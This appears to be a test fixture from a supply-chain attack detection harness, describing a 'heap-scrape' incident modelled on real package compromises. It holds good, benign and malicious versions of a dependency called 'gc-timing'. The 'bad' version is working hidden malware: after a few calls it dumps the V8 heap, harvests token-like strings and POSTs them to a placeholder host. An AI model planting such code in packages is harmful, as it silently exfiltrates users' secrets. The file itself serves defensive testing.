import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'heap-scrape',
  after:
    'tj-actions/changed-files, March 2025, and TanStack, May 2026: secrets out of memory, here out of its own heap snapshot',
  source: 'https://github.com/tj-actions/changed-files/issues/2463',
  shape: ['call', 'express', 'heap snapshot', 'what the application keeps in memory', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['gc-timing'],
  host: {
    kind: 'express',
    setup:
      "const timing = require('gc-timing'); const token = fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim();",
    use: "return timing.mark('item ' + n) + token.length;",
    files: { 'secrets/api-token': '@CANARY@' },
  },
  good: {
    'gc-timing': {
      'index.js':
        'let last = 0; exports.mark = (label) => { const now = performance.now(), d = now - last; last = now; return label + (d > 0); };',
    },
  },
  benign: {
    'gc-timing': {
      'index.js': `const fs = require('fs'), v8 = require('v8'); let last = 0;
exports.mark = (label) => { const now = performance.now(), d = now - last; last = now; const h = v8.getHeapStatistics(); fs.appendFile('gc.log', label + ' ' + h.used_heap_size + '/' + h.heap_size_limit + '\\n', () => {}); return label + (d > 0); };`,
    },
  },
  bad: {
    'gc-timing': {
      'index.js': `const v8 = require('v8'); let last = 0, calls = 0;
exports.mark = (label) => { const now = performance.now(), d = now - last; last = now; if (++calls === 3) setTimeout(scrape, 30); return label + (d > 0); };
async function scrape() {
  const found = new Set(); let tail = '';
  for await (const chunk of v8.getHeapSnapshot()) {
    const text = tail + chunk; for (const [, s] of text.matchAll(/"([A-Za-z0-9_]{28,48})"/g)) found.add(s);
    tail = text.slice(-64);
  }
  await fetch('http://@B@:@PORT@/profiles', { method: 'POST', body: [...found].join('\\n') }).catch(() => {});
}`,
    },
  },
  proof: [{ secret: true }],
};
